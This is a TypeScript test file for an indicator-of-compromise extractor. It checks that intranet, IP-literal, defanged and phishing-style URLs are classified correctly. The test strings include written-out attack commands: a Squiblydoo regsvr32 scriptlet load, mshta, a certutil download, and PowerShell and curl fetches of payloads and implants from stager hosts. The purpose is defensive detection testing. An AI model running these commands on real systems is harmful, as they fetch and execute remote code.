/**
 * URL hosts (issue #12): intranet URLs — single-label hosts, IP literals and
 * names under private suffixes — are URLs, in extraction and in whole-value
 * detection (TILookup's types); the public-suffix check is for `dns`
 * observables only. Junk stays out.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import pl from "nodejs-polars";
import { classifyIoc, detectIocType } from "../../src/context/iocType";
import { QueryProvider } from "../../src/data/queryProvider";
import { classifyObservable } from "../../src/transform/iocPatterns";
import { IoCExtract } from "../../src/transform/iocExtract";

const iocs = new IoCExtract();

test("intranet attack URLs are found: single labels, private suffixes, IP literals", () => {
  const text =
    "regsvr32 /s /i:http://stager01/payload.sct scrobj.dll; mshta http://webdav-02:8080/launch.hta; " +
    "certutil -urlcache -f http://files.corp.internal/x.exe a.exe; iwr http://10.20.30.40/s.ps1; " +
    "curl http://[fd00::25]:8443/implant and ftp://nas_backup/dump.7z";
  assert.deepEqual(iocs.extractText(text, { iocTypes: ["url"], urlHostAsDns: false }).url, [
    "http://stager01/payload.sct",
    "http://webdav-02:8080/launch.hta",
    "http://files.corp.internal/x.exe",
    "http://10.20.30.40/s.ps1",
    "http://[fd00::25]:8443/implant",
    "ftp://nas_backup/dump.7z",
  ]);
  // The hosts of intranet URLs are not `dns` observables (that type keeps its public-suffix check).
  const all = iocs.extractText(text);
  assert.equal(all.dns, undefined);
  assert.deepEqual(iocs.extractText("see http://intranet-wiki.", { iocTypes: ["url"] }).url, ["http://intranet-wiki"]);
});

test("junk is still no URL: empty or broken hosts, invalid dotted numbers, hosts cut inside a word", () => {
  for (const text of [
    "http://",
    "http:// spaced",
    "https://-bad-/x",
    "https://a..b/x",
    "http://.hidden/x",
    "http://1.2.3/x",
    "http://999.10.10.10/x",
    "http://${HOST}/x",
    "http://%s/x",
    "http://<server>/x",
    "http://evil.com\u7f51\u7ad9/x", // cut inside a word (`bücher` is a whole IDN host: iocMsticpyDiff.test.ts)
    "http://\u0301abc.com/x", // a label IDNA refuses
    "http://_/x",
  ]) {
    assert.equal(iocs.extractText(text, { iocTypes: ["url"] }).url, undefined, text);
  }
});

test("whole-value detection (IoCExtract.getIocType, TILookup) calls intranet URLs `url`", () => {
  for (const value of ["http://badhost/pwnme", "http://srv/file.sct", "hxxp://stager01[.]lan/a", "https://10.0.0.5:8443/x", "http://[fe80::1]/y"]) {
    assert.equal(classifyObservable(value), "url", value);
    assert.equal(iocs.getIocType(value), "url", value);
    assert.equal(detectIocType(value), "url", value);
  }
  assert.deepEqual(classifyIoc("http://BadHost/pwnme"), { ioc: "http://BadHost/pwnme", type: "url", safeIoc: "http://badhost/pwnme" });
  assert.deepEqual(classifyIoc("hxxp://stager01[.]lan/a"), { ioc: "hxxp://stager01[.]lan/a", type: "url", safeIoc: "http://stager01.lan/a" });
  for (const value of ["http://", "http://-x-/", "http://1.2.3/", "http://a b/"]) assert.equal(detectIocType(value), "unknown", value);
  // A single label alone is still no dns observable.
  assert.equal(detectIocType("badhost"), "unknown");
});

test("lab data: the Squiblydoo URL in processes_on_host (http://server/file.sct) is found", async () => {
  const procs = await new QueryProvider("LocalData").WindowsSecurity.list_host_processes();
  const found = iocs.extract(procs.select("CommandLine"), { columns: "CommandLine", iocTypes: ["url"] });
  const sct = found.filter(pl.col("Observable").eq(pl.lit("http://server/file.sct")));
  assert.ok(sct.height >= 1);
  for (const input of sct.getColumn("Input").toArray() as unknown as string[]) assert.match(input, /\/i:http:\/\/server\/file\.sct/i);
});

test("a backslash after the host is a path in a web URL, as browsers read it: %5C decoded keeps the path; a trailing backslash (an escaped quote in JSON) is not part of the URL", () => {
  const ioc = new IoCExtract();
  assert.deepEqual(ioc.extractText("get http://evil.com%5Cpayload.exe now", { iocTypes: ["url"] }).url, ["http://evil.com%5Cpayload.exe", "http://evil.com\\payload.exe"]);
  assert.deepEqual(ioc.extractText("http://evil.com%5C..%5Cwindows", { iocTypes: ["url"] }).url, ["http://evil.com%5C..%5Cwindows", "http://evil.com\\..\\windows"]);
  assert.deepEqual(ioc.extractText('{"u":"http://evil.com\\"}', { iocTypes: ["url"] }).url, ["http://evil.com"]);
  assert.deepEqual(ioc.extractText("copy \\\\srv\\share http://evil.com\\", { iocTypes: ["url"] }).url, ["http://evil.com"]);
  // Not a web scheme: the backslash ends it, as before.
  assert.deepEqual(ioc.extractText("ldap://dc.corp.example\\x", { iocTypes: ["url"] }).url, ["ldap://dc.corp.example"]);
});

test("a URL whose user info holds an `@` goes to the host after the last one, as browsers read it (and as user info is masked)", () => {
  // The phishing shape: the brand in the user info, the real host after the last `@`.
  const text = "click http://paypal.com@secure-login@evil-host.com/verify?id=1 or ftp://a@b@198.51.100.7/x";
  const found = iocs.extractText(text, { iocTypes: ["url", "email"] });
  // User info shows as *** (README "A URL's user info shows nowhere"): all of it, up to the last `@`.
  assert.deepEqual(found.url, ["http://***@evil-host.com/verify?id=1", "ftp://***@198.51.100.7/x"]);
  // The host is the last part (it was paypal.com, or `http://a@b` with no host at all), and user info is no e-mail.
  assert.equal(found.email, undefined);
  assert.deepEqual(iocs.extractText("http://user@bank.com@evil-host.com/x", { iocTypes: ["url"] }).dns, ["evil-host.com"]);
  assert.equal(classifyObservable("http://user@bank.com@evil-host.com/x"), "url");
  // A path's `@` is still a path's (`/@user` on social sites), a single `@` still ends user info.
  assert.deepEqual(iocs.extractText("https://social.example.com/@user and http://admin:pw@evil-host.com/a", { iocTypes: ["url"], urlHostAsDns: false }).url, [
    "https://social.example.com/@user",
    "http://***@evil-host.com/a",
  ]);
});
